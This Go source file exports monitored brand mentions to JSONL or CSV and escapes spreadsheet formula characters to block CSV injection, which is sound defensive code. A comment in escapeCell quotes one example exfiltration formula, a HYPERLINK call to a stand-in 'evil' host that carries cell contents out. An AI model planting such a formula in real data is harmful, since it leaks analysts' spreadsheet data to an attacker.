package mentionio

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"strconv"
	"strings"
	"time"

	"github.com/earshot/earshot/internal/model"
)

// Writer writes mentions in one format. Call Flush at the end.
type Writer struct {
	format Format
	enc    *json.Encoder
	csv    *csv.Writer
	header bool
	row    []string
}

// NewWriter writes mentions to w in format f.
func NewWriter(w io.Writer, f Format) (*Writer, error) {
	switch f {
	case JSONL:
		enc := json.NewEncoder(w)
		enc.SetEscapeHTML(false)
		return &Writer{format: f, enc: enc}, nil
	case CSV:
		return &Writer{format: f, csv: csv.NewWriter(w)}, nil
	}
	return nil, fmt.Errorf("unknown format %q: use jsonl or csv", f)
}

// exportRecord is the JSONL shape: the import fields plus the analysis.
type exportRecord struct {
	ID          string          `json:"id"`
	Source      string          `json:"source"`
	AlsoSeenIn  []string        `json:"also_seen_in,omitempty"`
	Brand       string          `json:"brand,omitempty"`
	URL         string          `json:"url,omitempty"`
	Author      string          `json:"author,omitempty"`
	Title       string          `json:"title,omitempty"`
	Text        string          `json:"text"`
	Lang        string          `json:"lang,omitempty"`
	Rating      *float64        `json:"rating,omitempty"`
	PublishedAt string          `json:"published_at"`
	Analysis    *model.Analysis `json:"analysis,omitempty"`
}

// Write writes one mention.
func (w *Writer) Write(m *model.Mention) error {
	if w.format == JSONL {
		return w.enc.Encode(exportRecord{
			ID: m.ID, Source: m.Source, AlsoSeenIn: m.AlsoSeenIn, Brand: strings.Join(m.Brands, ";"),
			URL: m.URL, Author: m.Author, Title: m.Title, Text: m.Text, Lang: m.Lang, Rating: m.Rating,
			PublishedAt: m.PublishedAt.UTC().Format(time.RFC3339Nano), Analysis: m.Analysis,
		})
	}
	if !w.header {
		w.header = true
		if err := w.csv.Write(append(MentionFields(), AnalysisFields()...)); err != nil {
			return err
		}
	}
	w.row = append(w.row[:0], escapeCell(m.ID), escapeCell(m.Source), escapeCell(strings.Join(m.Brands, ";")),
		escapeCell(m.URL), escapeCell(m.Author), escapeCell(m.Title), escapeCell(m.Text), escapeCell(m.Lang),
		formatRating(m.Rating), m.PublishedAt.UTC().Format(time.RFC3339Nano))
	w.row = append(w.row, analysisColumns(m.Analysis)...)
	return w.csv.Write(w.row)
}

// Flush writes buffered data and reports any write error.
func (w *Writer) Flush() error {
	if w.csv != nil {
		if !w.header { // an empty export still gets its header, so tools can read it
			w.header = true
			if err := w.csv.Write(append(MentionFields(), AnalysisFields()...)); err != nil {
				return err
			}
		}
		w.csv.Flush()
		return w.csv.Error()
	}
	return nil
}

func formatRating(r *float64) string {
	if r == nil {
		return ""
	}
	return strconv.FormatFloat(*r, 'f', -1, 64)
}

func analysisColumns(a *model.Analysis) []string {
	if a == nil {
		return make([]string, len(AnalysisFields()))
	}
	aspects := make([]string, len(a.Aspects))
	for i, as := range a.Aspects {
		aspects[i] = as.Aspect + ":" + strconv.FormatFloat(as.Score, 'f', 3, 64)
	}
	score := ""
	if a.Scored {
		score = strconv.FormatFloat(a.Score, 'f', 4, 64)
	}
	return []string{score, string(a.Label), strconv.FormatFloat(a.Confidence, 'f', 3, 64),
		strings.Join(aspects, ";"), strconv.FormatBool(a.Complaint), strconv.Itoa(a.Urgency),
		strconv.FormatBool(a.RatingMismatch), a.Version}
}

// formulaStart is what makes a spreadsheet read a cell as a formula.
const formulaStart = "=+-@\t\r"

// escapeCell keeps crawled text from running as a formula when an analyst
// opens a CSV export in Excel or LibreOffice (a review reading
// =HYPERLINK("http://evil/?"&A2, ...) would leak the sheet): a text cell that
// starts like one gets a leading apostrophe, which spreadsheets hide and
// which import takes off again (unescapeCell). Numeric columns are not text.
func escapeCell(s string) string {
	// A cell that starts with an apostrophe gets one more, so unescapeCell
	// takes off exactly what was added.
	if s != "" && (strings.IndexByte(formulaStart, s[0]) >= 0 || s[0] == '\'') {
		return "'" + s
	}
	return s
}

// unescapeCell undoes escapeCell: an apostrophe before a formula character
// or before another apostrophe.
func unescapeCell(s string) string {
	if len(s) > 1 && s[0] == '\'' && (strings.IndexByte(formulaStart, s[1]) >= 0 || s[1] == '\'') {
		return s[1:]
	}
	return s
}
